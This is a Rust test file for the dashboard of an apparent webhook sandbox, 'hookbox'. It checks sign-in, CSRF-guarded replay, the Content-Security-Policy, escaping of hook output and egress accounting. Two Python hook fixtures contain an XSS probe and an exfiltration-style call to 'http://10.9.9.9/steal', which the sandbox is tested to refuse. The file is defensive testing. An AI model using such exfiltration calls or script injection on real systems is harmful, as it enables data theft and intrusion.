//! The dashboard of `hookbox serve`, over real HTTP: signing in, the runs a
//! test posted, a run with its denied egress attempt, output rendered as
//! inert text, a strict Content-Security-Policy, and replay guarded by a
//! CSRF token.

use serde_json::Value;

use crate::receiver::Reply;
use crate::service::{Setup, TOKEN, call, eventually, get, open_event, post_event, sign_in};

/// Prints markup and tries a host no rule allows, then fails.
const HOSTILE_OUTPUT: &str = r#"
import urllib.request
print("<script>alert(1)</script>")
try:
    urllib.request.urlopen("http://10.9.9.9/steal", timeout=2)
except OSError as error:
    print("refused:", type(error).__name__)
raise SystemExit(3)
"#;

/// Posts a session-open of `sid` to a service whose hook fails and that
/// tries once; the run id, once the run is dead.
pub(crate) async fn dead_letter(server: &crate::service::Server, sid: &str) -> String {
    let (status, accepted) = post_event(server, open_event(sid)).await;
    assert_eq!(status, 202, "{accepted}");
    let run_id = accepted["run_id"].as_str().unwrap().to_owned();
    eventually("the run to be dead-lettered", async || {
        let run = get(server, &format!("/v1/runs/{run_id}")).await;
        (run["state"] == "dead").then_some(())
    })
    .await;
    run_id
}

fn html(value: &Value) -> &str {
    value.as_str().unwrap_or_default()
}

/// The `name="csrf"` value in a page.
fn csrf_of(page: &str) -> String {
    let after = page
        .split("name=\"csrf\" value=\"")
        .nth(1)
        .expect("a CSRF field");
    after.split('"').next().unwrap().to_owned()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_operator_signs_in_sees_a_denied_attempt_inert_output_and_replays() {
    let setup = Setup::new(Reply::Status(200, "ok"), "max_attempts = 1").await;
    setup.write_hook(HOSTILE_OUTPUT);
    let server = setup.start(&[]);
    let run_id = dead_letter(&server, "sess-dash").await;

    // Not signed in: the sign-in page.
    let (status, headers, _) = call(&server.base, "GET", "/", &[], Vec::new()).await;
    assert_eq!(status, 303);
    assert_eq!(headers["location"], "/login");
    let form = (
        "content-type",
        "application/x-www-form-urlencoded".to_owned(),
    );
    let (status, _, page) = call(
        &server.base,
        "POST",
        "/login",
        std::slice::from_ref(&form),
        b"token=wrong".to_vec(),
    )
    .await;
    assert_eq!(status, 401);
    assert!(html(&page).contains("not this service"), "{}", html(&page));
    let (status, headers, _) = call(
        &server.base,
        "POST",
        "/login",
        std::slice::from_ref(&form),
        format!("token={TOKEN}").into_bytes(),
    )
    .await;
    assert_eq!(status, 303);
    let set_cookie = headers["set-cookie"].to_str().unwrap().to_owned();
    assert!(
        set_cookie.contains("HttpOnly") && set_cookie.contains("SameSite=Strict"),
        "{set_cookie}"
    );
    let cookie = ("cookie", set_cookie.split(';').next().unwrap().to_owned());

    // The runs page lists it, under a strict policy.
    let (status, headers, page) = call(
        &server.base,
        "GET",
        "/?status=dead",
        std::slice::from_ref(&cookie),
        Vec::new(),
    )
    .await;
    assert_eq!(status, 200);
    let policy = headers["content-security-policy"].to_str().unwrap();
    assert!(
        policy.contains("default-src 'none'")
            && policy.contains("script-src 'self'")
            && !policy.contains("unsafe"),
        "{policy}"
    );
    assert!(html(&page).contains(r#"<script src="/static/live.js"></script>"#));
    assert!(
        html(&page).contains(r#"data-live="/runs/rows?status=dead""#),
        "{}",
        html(&page)
    );
    assert!(
        html(&page).contains(&format!("/runs/{run_id}")),
        "{}",
        html(&page)
    );

    // The run: the denied attempt with its reason, the output as text.
    let (status, _, page) = call(
        &server.base,
        "GET",
        &format!("/runs/{run_id}"),
        std::slice::from_ref(&cookie),
        Vec::new(),
    )
    .await;
    assert_eq!(status, 200);
    let page = html(&page).to_owned();
    assert!(
        page.contains("&#60;script&#62;alert(1)&#60;/script&#62;")
            || page.contains("&lt;script&gt;alert(1)&lt;/script&gt;"),
        "{page}"
    );
    assert!(
        !page.contains("<script>"),
        "the hook's markup must stay text"
    );
    assert!(page.contains("verdict-denied"), "{page}");
    assert!(page.contains("10.9.9.9 is a private address"), "{page}");
    assert!(
        page.contains("[redacted by hookbox]"),
        "secrets stay redacted: {page}"
    );

    // Replay needs the page's CSRF token.
    let replay = format!("/runs/{run_id}/replay");
    let (status, _, _) = call(
        &server.base,
        "POST",
        &replay,
        &[cookie.clone(), form.clone()],
        b"csrf=00".to_vec(),
    )
    .await;
    assert_eq!(status, 403);
    let (status, _, _) = call(
        &server.base,
        "POST",
        &replay,
        std::slice::from_ref(&form),
        format!("csrf={}", csrf_of(&page)).into_bytes(),
    )
    .await;
    assert_eq!(status, 303, "no session, no replay");
    let (status, headers, _) = call(
        &server.base,
        "POST",
        &replay,
        &[cookie.clone(), form],
        format!("csrf={}", csrf_of(&page)).into_bytes(),
    )
    .await;
    assert_eq!(status, 303);
    let new_run = headers["location"]
        .to_str()
        .unwrap()
        .trim_start_matches("/runs/")
        .to_owned();
    assert_ne!(new_run, run_id);
    let replayed = get(&server, &format!("/v1/runs/{new_run}")).await;
    assert_eq!(replayed["replay_of"], run_id.as_str());
    // A run page refreshes itself while its run is still to finish, and
    // only then; every page can sign out.
    const REFRESH: &str = r#"<meta http-equiv="refresh""#;
    assert!(!page.contains(REFRESH), "a dead run is final: {page}");
    let (_, _, replay_page) = call(
        &server.base,
        "GET",
        &format!("/runs/{new_run}"),
        std::slice::from_ref(&cookie),
        Vec::new(),
    )
    .await;
    let replay_page = html(&replay_page);
    let unfinished = replay_page.contains("state-pending") || replay_page.contains("state-running");
    assert_eq!(replay_page.contains(REFRESH), unfinished, "{replay_page}");
    for shown in [&page, replay_page] {
        assert!(shown.contains(r#"action="/logout""#), "{shown}");
    }

    // The live table's rows: new runs appear there without a reload.
    let (status, accepted) = post_event(&server, open_event("sess-live")).await;
    assert_eq!(status, 202);
    let newest = accepted["run_id"].as_str().unwrap().to_owned();
    let (status, _, rows) = call(
        &server.base,
        "GET",
        "/runs/rows",
        std::slice::from_ref(&cookie),
        Vec::new(),
    )
    .await;
    assert_eq!(status, 200);
    assert!(
        html(&rows).contains(&format!("/runs/{newest}")),
        "{}",
        html(&rows)
    );
    assert!(!html(&rows).contains("<html"), "rows only");
    let (status, _, _) = call(&server.base, "GET", "/runs/rows", &[], Vec::new()).await;
    assert_eq!(status, 303, "no session, no rows");

    // Filters: payload text (a user, a connection, here a session id) and time.
    let page_of = async |query: &str| {
        let (status, _, page) = call(
            &server.base,
            "GET",
            query,
            std::slice::from_ref(&cookie),
            Vec::new(),
        )
        .await;
        (status, html(&page).to_owned())
    };
    let (status, page) = page_of("/?contains=sess-live").await;
    assert_eq!(status, 200);
    assert!(
        page.contains(r#"data-live="/runs/rows?contains=sess-live""#),
        "the live rows keep the filter: {page}"
    );
    assert!(
        page.contains(&format!("/runs/{newest}")) && !page.contains(&format!("/runs/{run_id}\"")),
        "{page}"
    );
    let (_, page) = page_of("/?contains=nobody%40nowhere.example").await;
    assert!(page.contains("No runs."), "{page}");
    let (_, page) = page_of("/?since=1h&event=session-open").await;
    assert!(page.contains(&format!("/runs/{run_id}")), "{page}");
    let (status, _) = page_of("/?since=lately").await;
    assert_eq!(status, 400);

    // Where hooks come from, the policy as normalized rules, the limits.
    let (status, _, page) = call(
        &server.base,
        "GET",
        "/settings",
        std::slice::from_ref(&cookie),
        Vec::new(),
    )
    .await;
    assert_eq!(status, 200);
    let page = html(&page);
    let rule = format!("http://127.0.0.1:{}", setup.receiver.port());
    assert!(page.contains(&format!("<code>{rule}</code>")), "{page}");
    assert!(page.contains(r#"action="/logout""#), "{page}");
    assert!(
        page.contains("folder") && page.contains("128 MiB"),
        "{page}"
    );
    let (status, headers, _) = call(&server.base, "GET", "/settings", &[], Vec::new()).await;
    assert_eq!(
        (status, headers["location"].to_str().unwrap()),
        (303, "/login")
    );
}

/// Forwards every event; for sessions named `fail-*` it also tries a host no
/// rule allows and fails.
const SOME_FAIL: &str = r#"
import json, os, urllib.request
event = json.loads(os.environ["HOOP_RUNBOOK_HOOK_PAYLOAD"])
request = urllib.request.Request(os.environ["TARGET"] + "/events", data=b"{}", method="POST")
urllib.request.urlopen(request, timeout=5)
if event["sid"].startswith("fail"):
    try:
        urllib.request.urlopen("http://10.9.9.9/steal", timeout=2)
    except OSError:
        pass
    raise SystemExit(3)
"#;

/// The sum of `N` over the `<title>`s of a page that end in `: N {what}`.
fn counted_in_titles(page: &str, what: &str) -> u64 {
    page.split("<title>")
        .skip(1)
        .filter_map(|title| title.split("</title>").next())
        .filter_map(|title| title.strip_suffix(&format!(" {what}")))
        .filter_map(|title| title.rsplit(": ").next()?.parse::<u64>().ok())
        .sum()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_activity_page_draws_how_runs_went_and_where_egress_went() {
    let setup = Setup::new(Reply::Status(200, "ok"), "max_attempts = 1").await;
    setup.write_hook(SOME_FAIL);
    let server = setup.start(&[]);
    let mut runs = Vec::new();
    for sid in ["ok-1", "ok-2", "ok-3", "fail-1"] {
        let (status, accepted) = post_event(&server, open_event(sid)).await;
        assert_eq!(status, 202, "{accepted}");
        runs.push(accepted["run_id"].as_str().unwrap().to_owned());
    }
    for run_id in &runs {
        eventually("every run to finish", async || {
            let run = get(&server, &format!("/v1/runs/{run_id}")).await;
            (run["state"] == "succeeded" || run["state"] == "dead").then_some(())
        })
        .await;
    }

    let (status, _, _) = call(&server.base, "GET", "/activity", &[], Vec::new()).await;
    assert_eq!(status, 303, "no session, no activity");
    let cookie = sign_in(&server).await;
    let page_of = async |path: &str| {
        let (status, headers, page) = call(
            &server.base,
            "GET",
            path,
            std::slice::from_ref(&cookie),
            Vec::new(),
        )
        .await;
        let policy = headers
            .get("content-security-policy")
            .map(|p| p.to_str().unwrap().to_owned());
        (status, policy, html(&page).to_owned())
    };
    let receiver = format!("http://127.0.0.1:{}", setup.receiver.port());
    for path in ["/activity", "/activity?within=7d"] {
        let (status, policy, page) = page_of(path).await;
        assert_eq!(status, 200, "{path}: {page}");
        assert!(policy.unwrap().contains("default-src 'none'"));
        assert!(page.contains("succeeded <b>3</b>"), "{path}: {page}");
        assert!(page.contains("failed <b>1</b>"), "{path}: {page}");
        // The bars say the same, wherever the hour boundary fell.
        assert_eq!(counted_in_titles(&page, "succeeded"), 3, "{page}");
        assert_eq!(counted_in_titles(&page, "failed"), 1, "{page}");
        assert!(page.contains("p50 "), "{page}");
        // Egress by destination: the receiver took four, the private
        // address was refused once.
        assert_eq!(
            counted_in_titles(&page, "allowed"),
            4,
            "{receiver} allowed: {page}"
        );
        assert!(page.contains(&format!("{receiver}: 4 allowed")), "{page}");
        assert!(page.contains("http://10.9.9.9:80: 1 denied"), "{page}");
        assert!(!page.contains("<script"), "{page}");
    }
    let (status, _, page) = page_of("/activity?within=1y").await;
    assert_eq!(status, 400);
    assert!(page.contains("24h or 7d"), "{page}");
}
